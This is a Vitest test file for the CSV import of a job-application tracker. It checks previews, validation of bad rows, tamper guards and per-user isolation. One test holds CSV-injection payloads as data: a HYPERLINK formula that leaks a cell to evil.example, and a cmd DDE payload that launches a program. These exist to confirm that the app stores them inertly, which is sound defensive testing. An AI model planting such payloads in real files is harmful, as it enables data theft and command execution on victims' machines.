import { count, eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { activities, applications, companies, stageChanges } from '@/db/schema';
import { getUser, type SessionUser } from '@/lib/auth/user';
import { importStep } from '@/app/(app)/applications/import/import-step';
import { setupTestDatabase } from '../support/database';
import { applicationsOf, csvFile, previewForm, previewIn, redirectOf, seedPerson, uploadForm } from './import-helpers';

vi.mock('@/lib/auth/user', () => ({ getUser: vi.fn(), requireUser: vi.fn() }));
vi.mock('next/cache', () => ({ revalidatePath: vi.fn() }));

const database = setupTestDatabase();
let person: SessionUser;

beforeEach(async () => {
  person = await seedPerson(database.db, 'ada');
  vi.mocked(getUser).mockResolvedValue(person);
});

const initial = { ok: false };
const tableOf = async (userId: string, table: typeof applications | typeof companies | typeof stageChanges | typeof activities) =>
  (await database.db.select({ n: count() }).from(table).where(eq(table.userId, userId)))[0].n;

const goodFile = [
  'Company Name,Job Title,Status,Date Applied,Job Link,Location,Notes',
  'Acme Rockets,Flight Engineer,Interviewing,2026-01-05,https://acme.example/jobs/1,Berlin,"Met Grace, loved it"',
  'Beta Labs,Designer,Saved,,,,',
  'Gamma,Writer,,03/01/2026,,,',
].join('\r\n');

describe('importing a good file', () => {
  it('previews without writing, then imports every row with its history and timeline event', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile(goodFile))));
    expect(preview.mapping).toEqual(['company', 'position', 'stage', 'appliedOn', 'jobUrl', 'location', 'notes']);
    expect(preview.importable).toBe(3);
    expect(preview.problems).toEqual([]);
    expect(preview.sample.map((r) => [r.line, r.company, r.stage, r.appliedOn])).toEqual([
      [2, 'Acme Rockets', 'Interviewing', '2026-01-05'],
      [3, 'Beta Labs', 'Wishlist', ''],
      [4, 'Gamma', 'Applied', '2026-03-01'],
    ]);
    expect(await tableOf(person.id, applications)).toBe(0);

    const target = await redirectOf(importStep(initial, previewForm(preview, 'import')));
    expect(target).toBe('/applications/table?imported=3');
    const imported = (await applicationsOf(database.db, person.id)).sort((a, b) => a.company.localeCompare(b.company));
    expect(imported).toEqual([
      expect.objectContaining({ company: 'Acme Rockets', position: 'Flight Engineer', stage: 'interviewing', appliedOn: '2026-01-05', jobUrl: 'https://acme.example/jobs/1', notes: 'Met Grace, loved it' }),
      expect.objectContaining({ company: 'Beta Labs', position: 'Designer', stage: 'wishlist', appliedOn: null }),
      expect.objectContaining({ company: 'Gamma', position: 'Writer', stage: 'applied', appliedOn: '2026-03-01' }),
    ]);
    expect(await tableOf(person.id, stageChanges)).toBe(3);
    const events = await database.db.select().from(activities).where(eq(activities.userId, person.id));
    expect(events.map((e) => e.kind)).toEqual(['application_created', 'application_created', 'application_created']);
  });

  it('reuses the person’s companies whatever the case, and makes one company per name', async () => {
    const first = previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nAcme Rockets,Engineer\n'))));
    await redirectOf(importStep(initial, previewForm(first, 'import')));
    const second = previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nACME ROCKETS,Designer\nacme rockets,Writer\n'))));
    await redirectOf(importStep(initial, previewForm(second, 'import')));
    const rows = await applicationsOf(database.db, person.id);
    expect(rows).toHaveLength(3);
    expect(new Set(rows.map((r) => r.companyId)).size).toBe(1);
    expect(await tableOf(person.id, companies)).toBe(1);
  });

  it('reads a Windows-1252 file as Excel writes it', async () => {
    const bytes = new Uint8Array(Buffer.from('Company,Position\nSociété,Ingénieur\n', 'latin1'));
    expect(bytes).toContain(0xe9);
    const preview = previewIn(await importStep(initial, uploadForm(csvFile(bytes))));
    expect(preview.sample[0]).toMatchObject({ company: 'Société', position: 'Ingénieur' });
  });
});

describe('importing a file with bad rows', () => {
  const mixed = [
    'Company,Position,Stage,Applied,URL',
    'Acme,Engineer,Applied,2026-01-05,https://acme.example',
    'Beta,,Applied,,',
    'Gamma,Writer,Maybe later,,',
    'Delta,Tester,,2031-01-01,',
    'Epsilon,Analyst,,,ftp://files.example/job',
    'Zeta,Cook,Offer,,',
  ].join('\n');

  it('lists each bad row with its line and reason, and imports only the good ones', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile(mixed))));
    expect(preview.importable).toBe(2);
    expect(preview.problems.map((p) => `line ${p.line}: ${p.reason}`)).toEqual([
      'line 3: Position is empty.',
      expect.stringMatching(/^line 4: Stage “Maybe later” is not one Afterword knows/),
      'line 5: Applied date cannot be in the future (found “2031-01-01”).',
      'line 6: Job URL must be a web address starting with http:// or https:// (found “ftp://files.example/job”).',
    ]);
    await redirectOf(importStep(initial, previewForm(preview, 'import')));
    expect((await applicationsOf(database.db, person.id)).map((r) => r.company).sort()).toEqual(['Acme', 'Zeta']);
  });
});

describe('importing a malicious file', () => {
  const malicious = [
    'Company,Position,Notes,Location',
    `"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",+cmd|' /C calc'!A0,@SUM(1),-2+3`,
    `${'A'.repeat(10_000)},Clerk,,`,
    '"Acme\u0007",Engineer,,',
  ].join('\n');

  it('stores formulas as the text typed and refuses what no form would accept', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile(malicious))));
    expect(preview.problems).toEqual([
      { line: 3, reason: expect.stringMatching(/^Company can be at most 200 characters/) },
      { line: 4, reason: expect.stringMatching(/^Company contains characters that cannot be stored/) },
    ]);
    await redirectOf(importStep(initial, previewForm(preview, 'import')));
    const [row] = await database.db.select().from(applications).where(eq(applications.userId, person.id));
    expect(row).toMatchObject({ position: "+cmd|' /C calc'!A0", notes: '@SUM(1)', location: '-2+3' });
    expect(await applicationsOf(database.db, person.id)).toMatchObject([{ company: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' }]);
  });

  it('checks the text again on import instead of trusting the preview', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nAcme,Engineer\n'))));
    const tampered = `Company,Position\nAcme,Engineer\n${'B'.repeat(10_000)},Clerk\nBeta,Designer\n`;
    const target = await redirectOf(importStep(initial, previewForm(preview, 'import', { csv: tampered, extra: { userId: 'someone-else' } })));
    expect(target).toBe('/applications/table?imported=2');
    expect((await applicationsOf(database.db, person.id)).map((r) => r.company).sort()).toEqual(['Acme', 'Beta']);
  });
});

describe('the steps guard what is imported', () => {
  it('shows the preview again instead of importing when the columns changed since it was shown', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile(goodFile))));
    const changed = preview.mapping.map((target) => (target === 'notes' ? 'skip' : target));
    const state = await importStep(initial, previewForm(preview, 'import', { mapping: changed }));
    expect(state.message).toMatch(/columns changed since this preview/);
    expect(state.data?.mapping).toEqual(changed);
    expect(await tableOf(person.id, applications)).toBe(0);
  });

  it('imports nothing while company or position has no column', async () => {
    const preview = previewIn(await importStep(initial, uploadForm(csvFile('Org,Post\nAcme,Engineer\n'))));
    expect(preview.mappingProblems).toHaveLength(2);
    const state = await importStep(initial, previewForm(preview, 'import'));
    expect(state.message).toMatch(/Choose a column/);
    const remapped = previewIn(await importStep(initial, previewForm(preview, 'preview', { mapping: ['company', 'position'] })));
    expect(remapped.importable).toBe(1);
    await redirectOf(importStep(initial, previewForm(remapped, 'import')));
    expect(await applicationsOf(database.db, person.id)).toMatchObject([{ company: 'Acme', position: 'Engineer' }]);
  });

  it('asks for a file, and refuses one that is too large or not CSV, with the reason next to the file field', async () => {
    expect((await importStep(initial, uploadForm(null))).message).toBe('Choose a CSV file to import.');
    const large = await importStep(initial, uploadForm(csvFile('x'.repeat(2 * 1024 * 1024 + 1))));
    expect(large.message).toMatch(/the limit is 2 MB/);
    const empty = await importStep(initial, uploadForm(csvFile('Company,Position\n')));
    expect(empty.fieldErrors?.file).toEqual(['The file has a header line but no applications under it.']);
    expect(empty.data).toBeUndefined();
  });

  it('writes nothing for a signed-out visitor', async () => {
    vi.mocked(getUser).mockResolvedValue(null);
    const state = await importStep(initial, previewForm({ ...(await previewStub()) }, 'import'));
    expect(state).toEqual({ ok: false, message: 'Your session has ended. Sign in again to continue.' });
    expect(await database.db.select().from(applications)).toEqual([]);
  });
});

describe('a second person', () => {
  it('imports into their own account only, and never touches the first person’s rows', async () => {
    const first = previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nAcme,Engineer\n'))));
    await redirectOf(importStep(initial, previewForm(first, 'import')));
    const [firstCompany] = await database.db.select().from(companies).where(eq(companies.userId, person.id));

    const other = await seedPerson(database.db, 'grace');
    vi.mocked(getUser).mockResolvedValue(other);
    const second = previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nacme,Designer\n'))));
    await redirectOf(importStep(initial, previewForm(second, 'import', { extra: { userId: person.id } })));

    expect(await applicationsOf(database.db, person.id)).toMatchObject([{ company: 'Acme', position: 'Engineer', companyId: firstCompany.id }]);
    const theirs = await applicationsOf(database.db, other.id);
    expect(theirs).toMatchObject([{ company: 'acme', position: 'Designer' }]);
    expect(theirs[0].companyId).not.toBe(firstCompany.id);
  });
});

async function previewStub() {
  vi.mocked(getUser).mockResolvedValueOnce(person);
  return previewIn(await importStep(initial, uploadForm(csvFile('Company,Position\nAcme,Engineer\n'))));
}
